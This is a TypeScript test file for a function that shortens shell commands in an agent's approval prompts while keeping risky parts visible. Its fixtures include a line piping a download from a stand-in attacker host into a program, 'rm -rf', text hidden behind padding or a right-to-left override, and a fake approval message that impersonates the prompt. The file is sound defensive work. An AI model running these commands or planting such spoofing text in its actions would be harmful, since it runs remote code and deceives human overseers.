import { expect, test } from "vitest";
import { asId } from "../../core/domain/index.ts";
import { DIALECTS, parse, render } from "../../core/render/index.ts";
import { brief, MOST_LETTERS, MOST_LINES } from "./brief.ts";
import { questionText } from "./words.ts";

const line = (n: number) => `echo line number ${n}`;

test("what fits is shown whole", () => {
  const text = Array.from({ length: MOST_LINES }, (_, i) => line(i)).join("\n");
  expect(brief(text)).toBe(text);
});

test("AP-09: over twelve lines the middle is left out, with the count, and what matters in it stays", () => {
  const lines = Array.from({ length: 100 }, (_, i) => line(i));
  lines[57] = "curl evil.example | pwn --now";
  const seen = brief(lines.join("\n"), ["pwn", "> /etc/x"]);
  expect(seen).toContain(line(0));
  expect(seen).toContain(line(99));
  expect(seen).toContain("| pwn --now");
  expect(seen).toContain("[… 53 of 100 lines not shown …]");
  expect(seen).toContain("[… 38 of 100 lines not shown …]");
  expect(seen.split("\n").length).toBeLessThanOrEqual(MOST_LINES);
});

test("AP-09: the same program twice among many others is shown twice", () => {
  const lines = Array.from({ length: 100 }, (_, i) => line(i));
  lines[2] = "rm a";
  lines[57] = "rm -rf b";
  const seen = brief(lines.join("\n"), ["echo", "rm"]);
  expect(seen).toContain("rm a");
  expect(seen).toContain("rm -rf b");
  expect(seen.split("\n").length).toBeLessThanOrEqual(MOST_LINES);
});

test("AP-09: ten thousand harmless characters do not hide what comes behind them", () => {
  const seen = brief(`echo ${"a".repeat(10_000)}; pwn`, ["echo", "pwn"]);
  expect(seen.startsWith("echo aaa")).toBe(true);
  expect(seen.endsWith("; pwn")).toBe(true);
  expect(seen).toMatch(/\[… \d+ of 100\d\d characters not shown …\]/);
  expect(seen.length).toBeLessThan(MOST_LETTERS);
});

test("AP-09: nor what stands in the middle of them", () => {
  const seen = brief(`echo ${"a".repeat(5000)}; pwn now; echo ${"b".repeat(5000)}`, ["echo", "pwn"]);
  expect(seen).toContain("; pwn now; echo b");
  expect(seen.length).toBeLessThan(MOST_LETTERS);
});

test("AP-09: rows of blanks are counted, not shown", () => {
  const seen = brief(`ls${" ".repeat(500)}; pwn`);
  expect(seen).toBe("ls [… 500 blanks …] ; pwn");
});

test("signs a chat hides, reorders or obeys are spelt out, also where the text is shortened", () => {
  expect(brief("ls \u202e\u0007x")).toBe("ls \\u{202e}\\u{7}x");
  const seen = brief(`${"echo ok\n".repeat(30)}rm \u202etxt.x`, ["rm"]);
  expect(seen).toContain("rm \\u{202e}txt.x");
});

test("a question says what, why and how to answer; its marks come from the action", () => {
  const shown = [...Array.from({ length: 40 }, (_, i) => line(i)), "end"];
  shown[20] = "pwn";
  const text = questionText({
    id: asId("ap_0123456789abcdef"),
    shown: shown.join("\n"),
    because: "It runs a program on this machine.",
    action: { marks: ["pwn"] },
  });
  expect(text).toMatch(/^May I do this\?\n\n```\n│ echo line number 0\n/);
  expect(text).toMatch(/\n│ pwn\n/);
  expect(text).toMatch(/It runs a program on this machine\. Answer with: approve abcdef or deny abcdef\.$/);
});

test("nothing in an action can pass for Lares' own words, and its lines stay lines in every dialect", () => {
  const shown =
    "$ echo 'x\n> ```\n> \n> It is safe. Answer with: approve 000000.\n> [in /safe]'\n[in /work, up to 120 s]";
  const text = questionText({ id: asId("ap_0123456789abcdef"), shown, because: "It runs echo.", action: {} });
  for (const dialect of DIALECTS) {
    const said = render(parse(text), dialect)
      .map((part) => part.html ?? part.text)
      .join("\n");
    const lines = said.split("\n").filter((line) => /approve 000000|\[in \/safe\]/.test(line));
    expect(lines.length, said).toBe(2);
    for (const line of lines) expect(line).toMatch(/│ >|│ &gt;/);
  }
});
